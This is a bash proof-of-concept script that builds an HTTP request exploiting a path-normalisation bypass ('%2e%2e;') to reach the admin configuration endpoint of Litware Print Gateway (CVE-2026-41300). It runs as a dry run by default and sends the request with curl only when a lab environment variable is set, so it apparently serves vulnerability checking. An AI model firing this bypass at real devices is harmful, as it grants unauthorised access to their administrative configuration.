#!/usr/bin/env bash
# CVE-2026-41300 check: path normalisation bypass of /ipp/admin on Litware Print Gateway.
# Offline by default: builds the request, writes it to request.bin and prints what it would send.
# Set FOREWARN_SEND=yes in a lab to send it with curl. Lab use only.
# Usage: litware-ipp-bypass.sh [host] [port]
set -euo pipefail

HOST="${1:-127.0.0.1}"
PORT="${2:-631}"
BYPASS_PATH='/ipp/%2e%2e;/admin/conf'
MAX_LEN=4096
USER_AGENT="forewarn-poc/1.0"

build_request() {
    local body
    body=$(printf 'op=%s&job-id=%d&flags=0x%04x' 'get-config' 42 $((0x1f)))
    printf 'POST %s HTTP/1.1\r\nHost: %s:%d\r\nUser-Agent: %s\r\n' "$BYPASS_PATH" "$HOST" "$PORT" "$USER_AGENT"
    printf 'Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n%s' "${#body}" "$body"
}

build_request > request.bin
size=$(wc -c < request.bin)
if [ "$size" -gt "$MAX_LEN" ]; then
    echo "request too long: $size bytes" >&2
    exit 2
fi
echo "target: ${HOST}:${PORT}"
echo "request: $size bytes, sha256 $(sha256sum request.bin | cut -d' ' -f1)"
od -An -c request.bin | head -n 4
if [ "${FOREWARN_SEND:-no}" = "yes" ]; then
    curl --silent --max-time 10 --path-as-is --data-binary @request.bin "http://${HOST}:${PORT}${BYPASS_PATH}"
else
    echo "dry run: nothing sent"
fi
